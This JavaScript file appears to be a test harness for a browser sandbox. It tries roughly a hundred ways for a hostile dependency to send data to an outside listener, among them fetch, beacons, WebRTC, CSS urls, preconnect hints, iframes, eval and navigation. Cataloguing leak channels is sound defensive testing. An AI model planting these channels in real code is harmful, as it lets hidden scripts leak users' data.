// What a dependency that has turned against its users could try, to send something
// to another machine. Each attempt gets an address of its own, by which whoever
// listens knows it again. Code that runs in the program can reach whatever a script
// of the page can reach, so that is what stands here.
"use strict";
self.attempts = (() => {
  const element = (name, attributes, parent) => {
    const e = document.createElement(name);
    for (const [key, value] of Object.entries(attributes)) e.setAttribute(key, value);
    (parent || document.body).append(e);
    return e;
  };
  // Some attribute setters take trusted values only; all ways around are tried.
  const link = (rel, href, more) => element("link", { rel, href, ...more }, document.head);
  const click = (attributes) => { const a = document.createElement("a"); Object.assign(a, attributes); a.click(); };
  const freshWindow = () => {
    const frame = element("iframe", {});
    return frame.contentWindow || window[0];
  };
  const stun = async (Peer, to) => {
    const peer = new Peer({ iceServers: [{ urls: `stun:${to.udp}` }, { urls: `turn:${to.tcp}?transport=tcp`, username: "a", credential: "b" }] });
    peer.createDataChannel("x");
    await peer.setLocalDescription(await peer.createOffer());
  };
  const freshWorker = (text) => new Worker(URL.createObjectURL(new Blob([text], { type: "text/javascript" })));

  // In a page and in a worker.
  const anywhere = {
    "fetch": (url) => fetch(url, { mode: "no-cors" }),
    "fetch-own-constructor": (url) => (async () => {}).constructor(`await fetch("${url}", { mode: "no-cors" })`)(),
    "fetch-keepalive": (url) => fetch(url, { mode: "no-cors", keepalive: true, method: "POST", body: "packets" }),
    "fetch-later": (url) => fetchLater(url.replace("http:", "https:"), { activateAfter: 0 }),
    "xhr": (url) => { const x = new XMLHttpRequest(); x.open("POST", url); x.send("packets"); },
    "websocket": (url, to) => { new WebSocket(`ws://${to.tcp}/${url.split("/").pop()}`); },
    "websocket-stream": (url, to) => { new WebSocketStream(`ws://${to.tcp}/${url.split("/").pop()}`); },
    "event-source": (url) => { new EventSource(url); },
    "web-transport": (url, to) => new WebTransport(`https://${to.udp}/x`).ready,
    "cache-add": async (url) => (await caches.open("x")).add(new Request(url, { mode: "no-cors" })),
    "import": (url) => import(url),
    "worker-of-blob": (url) => { freshWorker(`fetch("${url}", { mode: "no-cors" })`); },
    "worker-of-blob-imports": (url) => { freshWorker(`importScripts("${url}")`); },
    "font-face": (url) => new FontFace("x", `url(${url})`).load(),
    "compile-streaming": (url) => WebAssembly.compileStreaming(fetch(url, { mode: "no-cors" })),
    "background-fetch": async (url) => (await navigator.serviceWorker.ready).backgroundFetch.fetch("x", [url]),
  };

  const inWorker = {
    "import-scripts": (url) => importScripts(url),
    "worker-prototype-fetch": (url) => WorkerGlobalScope.prototype.fetch.call(self, url, { mode: "no-cors" }),
    "update-found": (url) => self.registration.update(url),
  };

  const inPage = {
    "picture-in-picture": async (url) => (await documentPictureInPicture.requestWindow()).fetch(url, { mode: "no-cors" }),
    "beacon": (url) => { if (!navigator.sendBeacon(url, "packets")) throw new Error("not taken"); },
    "beacon-prototype": (url) => { if (!Navigator.prototype.sendBeacon.call(navigator, url, "packets")) throw new Error("not taken"); },
    "image": (url) => { new Image().src = url; },
    "image-srcset": (url) => { element("img", { srcset: url + " 1x" }); },
    "picture-source": (url) => { const p = element("picture", {}); element("source", { srcset: url }, p); element("img", {}, p); },
    "input-image": (url) => { element("input", { type: "image", src: url }); },
    "svg-image": (url) => { const svg = document.body.appendChild(document.createElementNS("http://www.w3.org/2000/svg", "svg")); const i = document.createElementNS("http://www.w3.org/2000/svg", "image"); i.setAttribute("href", url); svg.append(i); },
    "video": (url) => { element("video", { src: url, preload: "auto" }); },
    "video-poster": (url) => { element("video", { poster: url }); },
    "audio": (url) => { new Audio(url).load(); },
    "object": (url) => { element("object", { data: url }); },
    "embed": (url) => { element("embed", { src: url }); },
    "iframe": (url) => { element("iframe", { src: url }); },
    "iframe-srcdoc": (url) => { element("iframe", { srcdoc: `<img src="${url}">` }); },
    "iframe-javascript": (url) => { element("iframe", { src: `javascript:fetch("${url}", { mode: "no-cors" })` }); },
    "iframe-fresh-fetch": (url) => freshWindow().fetch(url, { mode: "no-cors" }),
    "iframe-fresh-rtc": (url, to) => stun(freshWindow().RTCPeerConnection, to),
    "iframe-of-fragment": (url, to) => {
      const t = wirewhyBoot.inert ? wirewhyBoot.inert("<iframe></iframe>") : Object.assign(document.createElement("template"), { innerHTML: "<iframe></iframe>" }).content;
      document.body.append(t);
      return window[window.length - 1].fetch(url, { mode: "no-cors" });
    },
    "script": (url) => { const s = document.createElement("script"); s.src = url; document.head.append(s); },
    "script-inline": (url) => { const s = document.createElement("script"); s.text = `fetch("${url}", { mode: "no-cors" })`; document.head.append(s); },
    "script-module": (url) => { const s = document.createElement("script"); s.type = "module"; s.text = `import "${url}"`; document.head.append(s); },
    "speculation-rules": (url) => { const s = document.createElement("script"); s.type = "speculationrules"; s.text = JSON.stringify({ prefetch: [{ source: "list", urls: [url], eagerness: "immediate" }] }); document.head.append(s); },
    "markup": (url) => { document.body.insertAdjacentHTML("beforeend", `<img src="${url}">`); },
    "markup-inner": (url) => { element("div", {}).innerHTML = `<img src="${url}">`; },
    "markup-set-html": (url) => { element("div", {}).setHTML(`<img src="${url}">`, { sanitizer: new Sanitizer({}) }); },
    "markup-set-html-link": (url) => { element("div", {}).setHTML(`<link rel="preconnect" href="${url}"><link rel="stylesheet" href="${url}">`, { sanitizer: new Sanitizer({}) }); },
    "markup-handler": (url) => { element("div", { onclick: `fetch("${url}", { mode: "no-cors" })` }).click(); },
    "eval": (url) => { (0, eval)(`fetch("${url}", { mode: "no-cors" })`); },
    "timer-of-text": (url) => { setTimeout(`fetch("${url}", { mode: "no-cors" })`, 0); },
    "stylesheet": (url) => { link("stylesheet", url); },
    "style-import": (url) => { element("style", {}).textContent = `@import "${url}";`; },
    "style-url": (url) => { document.body.style.backgroundImage = `url("${url}")`; },
    "style-attribute": (url) => { element("p", { style: `background: url("${url}")` }).textContent = "x"; },
    "style-adopted": (url) => { const s = new CSSStyleSheet(); s.replaceSync(`html { background-image: url("${url}") }`); document.adoptedStyleSheets.push(s); },
    "style-font": (url) => { const s = new CSSStyleSheet(); s.replaceSync(`@font-face { font-family: leak; src: url("${url}") } body { font-family: leak }`); document.adoptedStyleSheets.push(s); element("p", {}).textContent = "x"; },
    "style-cursor": (url) => { document.documentElement.style.cursor = `url("${url}"), auto`; document.body.style.listStyleImage = `url("${url}")`; element("li", {}).textContent = "x"; },
    "icon": (url) => { link("icon", url); },
    "manifest": (url) => { link("manifest", url); },
    "preload": (url) => { link("preload", url, { as: "image" }); },
    "module-preload": (url) => { link("modulepreload", url); },
    "prefetch": (url) => { link("prefetch", url); },
    "prerender": (url) => { link("prerender", url); },
    "preconnect": (url, to) => { link("preconnect", `http://preconnect.${to.name}`); },
    "preconnect-existing": (url, to) => { const l = document.querySelector("link"); l.rel = "preconnect"; l.href = `http://preconnect-existing.${to.name}`; },
    "preconnect-attribute": (url, to) => { const l = document.querySelector("link"); Element.prototype.setAttribute.call(l, "rel", "preconnect"); l.attributes.href.value = `http://preconnect-attribute.${to.name}`; },
    "dns-prefetch": (url, to) => { link("dns-prefetch", `//dns-prefetch.${to.dns}`); },
    "dns-anchor": (url, to) => { element("a", { href: `http://dns-anchor.${to.dns}/` }).textContent = "x"; },
    "worker": (url) => { new Worker(url); },
    "worker-constructor": (url) => { const W = wirewhyBoot.newWorker().constructor; new W(URL.createObjectURL(new Blob([`fetch("${url}", { mode: "no-cors" })`]))); },
    "shared-worker": (url) => { new SharedWorker(URL.createObjectURL(new Blob([`fetch("${url}", { mode: "no-cors" })`]))); },
    "worklet": (url) => new AudioContext().audioWorklet.addModule(url),
    "paint-worklet": (url) => CSS.paintWorklet.addModule(url),
    "rtc": (url, to) => stun(RTCPeerConnection, to),
    "rtc-webkit": (url, to) => stun(webkitRTCPeerConnection, to),
    "payment": (url) => new PaymentRequest([{ supportedMethods: url.replace("http:", "https:") }], { total: { label: "x", amount: { currency: "EUR", value: "1" } } }).canMakePayment(),
    "credentials": (url) => navigator.credentials.get({ identity: { providers: [{ configURL: url.replace("http:", "https:"), clientId: "x" }] } }),
    "report-uri": (url) => { element("meta", { "http-equiv": "Content-Security-Policy", content: `img-src 'none'; report-uri ${url}` }, document.head); new Image().src = "/none.png"; },
    "form": (url) => { element("form", { action: url, method: "POST", target: "_blank" }).submit(); },
    "form-action-button": (url) => { const f = element("form", {}); element("button", { formaction: url, formtarget: "_blank" }, f).click(); },
    "open": (url) => { window.open(url); },
    "open-prototype": (url) => { Window.prototype.open ? Window.prototype.open.call(window, url) : document.open(url, "x", "popup"); },
    "anchor-new-window": (url) => { click({ href: url, target: "_blank" }); },
    "anchor-dispatch": (url) => { Object.assign(document.createElement("a"), { href: url, target: "_blank", rel: "opener" }).dispatchEvent(new MouseEvent("click")); },
    "anchor-in-page": (url) => { const a = element("a", { href: url, target: "_blank" }); a.append(document.createElement("b")); a.firstChild.click(); },
    "anchor-ping": (url) => { const a = element("a", { href: "#x", ping: url }); a.click(); },
    "anchor-download": (url) => { click({ href: url, download: "x" }); },
    "area": (url) => { element("area", { href: url, target: "_blank" }, element("map", {})).click(); },
  };

  // Each of these would end the page if it succeeded.
  const leaving = {
    "location-href": (url) => { location.href = url; },
    "location-assign": (url) => { location.assign(url); },
    "location-replace": (url) => { location.replace(url); },
    "document-location": (url) => { document.location = url; },
    "location-javascript": (url) => { location.href = `javascript:void fetch("${url}", { mode: "no-cors" })`; },
    "location-parts": (url, to) => { location.host = `location-parts.${to.name}`; },
    "navigate": (url) => { navigation.navigate(url); },
    "anchor-here": (url) => { click({ href: url }); },
    "anchor-svg": (url) => { const a = document.createElementNS("http://www.w3.org/2000/svg", "a"); a.setAttribute("href", url); document.body.append(a); a.dispatchEvent(new MouseEvent("click", { bubbles: true })); },
    "form-here": (url) => { element("form", { action: url }).submit(); },
    "meta-refresh": (url) => { element("meta", { "http-equiv": "refresh", content: `0; url=${url}` }, document.head); },
    "base-then-reload": (url) => { element("base", { href: url }, document.head); location.href = "base-then-reload"; },
    "open-self": (url) => { open(url, "_self"); },
    "markup-write": (url) => { document.write(`<img src="${url}">`); },
  };

  // To the page's own host, whose log somebody else may read.
  const home = {
    "own-fetch": () => fetch("leak-fetch"),
    "own-image": () => { new Image().src = "leak-image"; },
    "own-script": () => { const s = document.createElement("script"); s.src = "leak-script"; document.head.append(s); },
    "own-stylesheet": () => { link("stylesheet", "leak-stylesheet"); },
    "own-worker": () => { new Worker("leak-worker"); },
    "own-service-worker": () => navigator.serviceWorker.register("leak-service-worker"),
    "own-manifest": () => { link("manifest", "leak-manifest"); },
    "own-prefetch": () => { link("prefetch", "leak-prefetch"); },
    "own-query": () => { history.replaceState(null, "", "?leak-query"); location.reload(); },
    "own-cookie": () => { document.cookie = "leak-cookie=packets"; }, // goes out with the next request
    "own-place": () => { location.search = "?leak-place"; },
  };

  // run tries the attempts of some kinds and returns what each of them met with.
  const run = async (kinds, to, only) => {
    const met = {};
    for (const kind of kinds) {
      for (const [name, attempt] of Object.entries(kind)) {
        if (only && only !== name) continue;
        try {
          const url = `http://${to.prefix || ""}${name}.${to.name}/${to.prefix || ""}${name}`;
          const result = attempt(url, to);
          await Promise.race([result, new Promise((done) => setTimeout(done, 300))]);
          met[name] = "done";
        } catch (error) {
          met[name] = String(error);
        }
      }
    }
    return met;
  };
  return { run, anywhere, inPage, inWorker, leaving, home, names: (kind) => Object.keys(kind) };
})();
if (typeof document !== "object") {
  self.addEventListener("message", async ({ data }) => {
    if (!data.attempts) return;
    self.postMessage({ met: await attempts.run([attempts.anywhere, attempts.inWorker], data.attempts, data.only) });
  });
}
